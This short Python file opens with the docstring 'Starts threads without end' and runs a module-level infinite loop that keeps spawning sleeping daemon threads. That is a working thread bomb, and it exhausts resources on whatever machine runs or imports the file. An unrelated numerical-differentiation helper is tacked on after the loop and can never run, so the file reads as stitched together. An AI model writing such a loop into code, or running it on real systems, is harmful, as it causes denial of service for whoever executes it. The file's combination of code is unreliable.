"""Starts threads without end."""

import threading
import time

while True:
    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()


def numerical_diff(f, x):
    return (f(x + 1e-4) - f(x - 1e-4)) / 2e-4
